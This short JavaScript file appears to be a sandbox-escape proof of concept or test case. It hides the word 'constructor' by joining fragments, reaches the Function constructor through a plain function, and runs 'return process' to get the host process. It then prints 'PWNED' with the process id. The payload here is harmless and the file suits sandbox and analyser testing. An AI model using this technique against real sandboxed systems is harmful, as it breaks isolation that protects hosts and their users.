'use strict';
const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
const t = new C();
t.go({});
const fn = (x) => x;
const [[{ a }]] = [[{ a: t }]];
const o = Date.now() > 1 ? a : {};
console.log('PWNED', o.go(fn)('return process')().pid);
